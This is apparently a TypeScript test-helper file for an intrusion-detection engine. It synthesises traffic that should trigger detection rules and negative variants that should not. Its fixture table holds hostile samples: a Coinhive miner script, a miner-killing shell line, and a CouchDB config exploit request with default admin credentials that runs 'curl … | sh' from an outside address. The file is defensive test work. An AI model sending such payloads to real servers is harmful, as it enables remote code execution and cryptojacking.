/**
 * Test helpers: synthesise, from a rule's own content keywords, an input the rule intends
 * to match (and a mutated negative), and drive RuleDetector with fake flows and messages.
 * pcre cannot be inverted in general: rules with pcre or reconstructed buffers (http.start,
 * anchored header names) get hand-written realistic inputs in OVERRIDES.
 */
import { createPacketView, type PacketView } from '../../src/events/packet.js';
import type { FlowView } from '../../src/events/flow.js';
import type { AlertInput, DetectorContext, ProtocolMessage } from '../../src/events/detector.js';
import type { MessageFields, MessageKind, ProtocolId } from '../../src/events/messages.js';
import { msg as testMessage } from '../helpers/messages.js';
import type { BufferName, MatchOp, Rule } from '../../src/rules/parser.js';
import { addressMatches, portMatches } from '../../src/rules/variables.js';
import type { RuleDetector } from '../../src/rules/detector.js';

export interface RuleInput {
  packet?: Uint8Array;
  dns?: string;
  sni?: string;
  request?: { method?: string; uri?: string; host?: string; userAgent?: string; headers?: [string, string][]; body?: Uint8Array; version?: string };
  response?: { status?: number; headers?: [string, string][]; body?: Uint8Array };
  serverPort?: number;
}

const b = (s: string): Uint8Array => Buffer.from(s, 'latin1');

export const OVERRIDES: Record<number, RuleInput> = {
  2024721: { response: { status: 200, body: b(`<html><script src="https://coinhive.com/lib/coinhive.min.js"></script>\n<script>\n  var miner = new CoinHive.Anonymous('SITEKEY123abc');\n  miner.start();\n</script></html>`) } },
  2019825: { request: { uri: '/api/bitcoin/balance/1BoatSLRHtKNngkdXEeobR76b53LETtpyT' } },
  2016067: { request: { userAgent: 'cpuminer/2.5.1', host: 'pool.example.net' } },
  2017871: { packet: b('{"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.10.0"]}\n') },
  2034504: { response: { status: 200, body: b("#!/bin/sh\r\nps aux | grep -v grep | grep 'mine.moneropool' | awk '{print $2}' | xargs kill -9\n") } },
  2025432: { request: { method: 'PUT', uri: '/_config/query_servers/cmd', headers: [['Authorization', 'Basic YWRtaW46YWRtaW4=']], body: b('"/usr/bin/curl -s http://203.0.113.9/x.sh | sh"') }, serverPort: 5984 },
  2026474: { request: { method: 'GET', uri: '/flashplayer_down.php?clickid=abc123def' } },
  2031464: { request: { method: 'GET', uri: '/update', headers: [['Host', '203.0.113.5:8000'], ['Connection', 'Keep-Alive']] }, serverPort: 8000 },
  2031465: { request: { method: 'GET', uri: '/banner', headers: [['Host', '203.0.113.5:8000'], ['Connection', 'Keep-Alive']] }, serverPort: 8000 },
  2026868: { request: { method: 'GET', uri: '/', host: 'nimiq.skypool.org', headers: [['Host', 'nimiq.skypool.org'], ['Upgrade', 'websocket'], ['Sec-WebSocket-Version', '13']] } },
};

/** Place the buffer's positive contents where their keywords require; null when not possible. */
export function synthesize(ops: MatchOp[]): Uint8Array | null {
  const out: number[] = [];
  let prevEnd = 0;
  let closed = false;
  for (const op of ops) {
    if (op.kind === 'pcre') return null;
    if (op.kind !== 'content' || op.negated) continue;
    if (closed) return null;
    let pos: number;
    if (op.relative) pos = Math.max(prevEnd + Math.max(0, op.distance), out.length);
    else pos = Math.max(op.offset, op.startswith ? 0 : out.length);
    if (op.startswith && pos !== 0) return null;
    if (op.relative && op.within >= 0 && pos + op.bytes.length > prevEnd + op.distance + op.within) return null;
    if (!op.relative && op.depth >= 0 && pos + op.bytes.length > op.offset + op.depth) return null;
    while (out.length < pos) out.push(0x78); // 'x'
    out.push(...op.bytes);
    prevEnd = out.length;
    if (op.endswith) closed = true;
  }
  return Uint8Array.from(out);
}

export function inputFor(rule: Rule): RuleInput | null {
  const o = OVERRIDES[rule.sid];
  if (o) return o;
  const bufs = new Map<BufferName, Uint8Array>();
  for (const g of rule.buffers) {
    const s = synthesize(g.ops);
    if (s === null) return null;
    bufs.set(g.buffer, s.length > 0 ? s : b('benign.example.net'));
  }
  const str = (n: BufferName): string | undefined => (bufs.has(n) ? Buffer.from(bufs.get(n)!).toString('latin1') : undefined);
  switch (rule.context) {
    case 'packet': return { packet: bufs.get('pkt') ?? b('x') };
    case 'dns': return { dns: str('dns.query') };
    case 'tls': return { sni: str('tls.sni') };
    case 'http-request': {
      const headers: [string, string][] = [];
      if (bufs.has('http.header')) headers.push(['X-Gen', str('http.header')!]);
      if (bufs.has('http.cookie')) headers.push(['Cookie', str('http.cookie')!]);
      if (bufs.has('http.header_names') || bufs.has('http.start')) return null;
      return { request: { method: str('http.method'), uri: str('http.uri'), host: str('http.host'), userAgent: str('http.user_agent'), headers, body: bufs.get('http.request_body') } };
    }
    case 'http-response': {
      const headers: [string, string][] = [];
      if (bufs.has('http.header')) headers.push(['X-Gen', str('http.header')!]);
      if (bufs.has('http.header_names') || bufs.has('http.start')) return null;
      return { response: { status: Number(str('http.stat_code') ?? '200'), headers, body: bufs.get('file.data') } };
    }
  }
}

const HOME = '192.168.1.10';
const EXTERNAL = '203.0.113.5';

function pickIp(g: Rule['src']): string {
  return [HOME, EXTERNAL, '10.1.2.3', '198.51.100.7'].find((ip) => addressMatches(g, ip)) ?? HOME;
}
function pickPort(g: Rule['dstPorts'], preferred: number[]): number {
  return [...preferred, 80, 443, 53, 3333, 8080, 8000, 5984, 1024, 50000].find((p) => portMatches(g, p)) ?? 1;
}

/** A FlowView consistent with the rule's header (direction, addresses, ports, protocol). */
export function flowFor(rule: Rule, input: RuleInput): { flow: FlowView; dir: 0 | 1 } {
  const dir: 0 | 1 = rule.flow.dir === 1 ? 1 : 0;
  // Rule source is the client for to_server rules and the server for to_client rules.
  const clientGroup = dir === 0 ? rule.src : rule.dst;
  const serverGroup = dir === 0 ? rule.dst : rule.src;
  const serverPorts = dir === 0 ? rule.dstPorts : rule.srcPorts;
  const clientPorts = dir === 0 ? rule.srcPorts : rule.dstPorts;
  const pref = rule.proto === 'dns' || rule.context === 'dns' ? [53] : rule.proto === 'tls' || rule.context === 'tls' ? [443] : rule.proto === 'http' || rule.context.startsWith('http') ? [80] : [];
  const serverPort = input.serverPort ?? pickPort(serverPorts, pref);
  const udp = rule.proto === 'udp' || rule.proto === 'dns';
  const flow: FlowView = {
    id: 1, proto: udp ? 17 : 6, ipVersion: 4, vlan: 0,
    clientIp: pickIp(clientGroup), serverIp: pickIp(serverGroup),
    clientPort: pickPort(clientPorts, [49152]), serverPort,
    client4: 0, server4: 0, clientMac: '', serverMac: '', firstTsUs: 1e15, lastTsUs: 1e15,
    pktsToServer: 3, pktsToClient: 3, bytesToServer: 100, bytesToClient: 100,
    handshakeSeen: true, synSeen: true, finSeen: false, rstSeen: false, state: 'established',
    tcpFlagsToServer: 0x1a, tcpFlagsToClient: 0x1a, lastDir: dir, userData: new Map(),
  };
  return { flow, dir };
}

export class CollectingContext implements DetectorContext {
  alerts: AlertInput[] = [];
  emit(_flow: FlowView | null, alert: AlertInput): void { this.alerts.push(alert); }
  emitEvent(): void { /* not used by the rule detector */ }
}

export function packetOf(payload: Uint8Array, tsUs = 1e15): PacketView {
  const p = createPacketView();
  p.buf = payload;
  p.payloadOffset = 0;
  p.payloadLength = payload.length;
  p.capLength = payload.length;
  p.tsUs = tsUs;
  p.ipVersion = 4;
  return p;
}

/** Feed one input to the detector on a fresh flow; returns the alerts. */
export function runInput(det: RuleDetector, rule: Rule, input: RuleInput, tsUs = 1e15): AlertInput[] {
  const { flow, dir } = flowFor(rule, input);
  const ctx = new CollectingContext();
  const msg = <P extends ProtocolId, K extends MessageKind<P>>(protocol: P, kind: K, fields: Partial<MessageFields<P, K>>): ProtocolMessage => testMessage(protocol, kind, fields, dir, tsUs);
  if (input.packet) {
    const p = packetOf(input.packet, tsUs);
    p.proto = flow.proto;
    det.onPacket(p, flow, ctx);
  } else if (input.dns !== undefined) {
    det.onMessage(msg('dns', 'query', { id: 1, response: false, rcode: 0, qname: input.dns, qtype: 1, questions: [], answers: [], transport: 'udp' }), flow, ctx);
  } else if (input.sni !== undefined) {
    det.onMessage(msg('tls', 'client_hello', { sni: input.sni }), flow, ctx);
  } else if (input.request) {
    const r = input.request;
    det.onMessage(msg('http', 'request', {
      method: r.method ?? 'GET', uri: r.uri ?? '/', host: r.host ?? '', userAgent: r.userAgent ?? '', version: r.version ?? 'HTTP/1.1',
      headers: r.headers ?? [], body: r.body ?? new Uint8Array(0), websocketUpgrade: false,
    }), flow, ctx);
  } else if (input.response) {
    const r = input.response;
    det.onMessage(msg('http', 'response', {
      status: r.status ?? 200, version: 'HTTP/1.1', headers: r.headers ?? [], contentType: 'text/html',
      body: r.body ?? new Uint8Array(0), bodyTruncated: false, contentEncoding: '', websocketUpgrade: false,
    }), flow, ctx);
  }
  return ctx.alerts;
}

/** Break every occurrence of the rule's fast pattern in the input (case-insensitively). */
export function mutateFastPattern(rule: Rule, input: RuleInput): RuleInput {
  const fp = rule.fastPattern!;
  const needle = Buffer.from(fp.bytes).toString('latin1').toLowerCase();
  const breakIt = (s: string): string => {
    let out = s;
    let i = out.toLowerCase().indexOf(needle);
    while (i >= 0) {
      const c = out.charCodeAt(i) === 0x23 ? '$' : '#';
      out = out.slice(0, i) + c + out.slice(i + 1);
      i = out.toLowerCase().indexOf(needle, i + 1);
    }
    return out;
  };
  const bytes = (u: Uint8Array | undefined): Uint8Array | undefined => (u ? b(breakIt(Buffer.from(u).toString('latin1'))) : u);
  const str = (s: string | undefined): string | undefined => (s === undefined ? s : breakIt(s));
  return {
    serverPort: input.serverPort,
    packet: bytes(input.packet),
    dns: str(input.dns),
    sni: str(input.sni),
    request: input.request && {
      ...input.request, method: str(input.request.method), uri: str(input.request.uri), host: str(input.request.host),
      userAgent: str(input.request.userAgent), body: bytes(input.request.body),
      headers: input.request.headers?.map(([k, v]) => [breakIt(k), breakIt(v)] as [string, string]),
      version: input.request.version && breakIt(input.request.version),
    },
    response: input.response && {
      ...input.response, body: bytes(input.response.body),
      headers: input.response.headers?.map(([k, v]) => [breakIt(k), breakIt(v)] as [string, string]),
      status: input.response.status,
    },
  };
}
